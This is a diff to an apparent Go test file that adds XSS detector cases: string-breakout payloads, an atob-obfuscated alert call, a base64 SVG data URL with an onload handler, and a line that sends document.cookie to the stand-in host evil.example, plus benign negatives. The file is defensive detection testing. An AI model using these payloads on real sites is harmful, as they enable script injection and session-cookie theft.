@@ -43,6 +43,16 @@ func TestXSSCases(t *testing.T) {
 		{`<div><!--[if IE]><script>alert(1)</script><![endif]--></div>`, true},
 		{`<a href="  JAVASCRIPT:alert(1)">x</a>`, true},
 		{`<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect/></a></svg>`, true},
+		// Breaking out of a script's string with no alert(1) to find,
+		// and script in an SVG data: URL; a quoted word, a code comment.
+		{"';[1].map(alert)//", true},
+		{"';onerror=alert;throw 1//", true},
+		{"\\\";self[atob('YWxlcnQ=')](1)//", true},
+		{"';new Image().src='//evil.example/?c='+document.cookie;//", true},
+		{"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", true},
+		{"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxwYXRoIGQ9Ik0wIDBoMjR2MjRIMHoiLz48L3N2Zz4=", false},
+		{"'hello', he said; // ok", false},
+		{"\"; x = 1; // set x", false},
 		// Book titles and sentences that name the scheme; the scheme
 		// obfuscated and left empty is a probe.
 		{"JavaScript: The Good Parts", false},
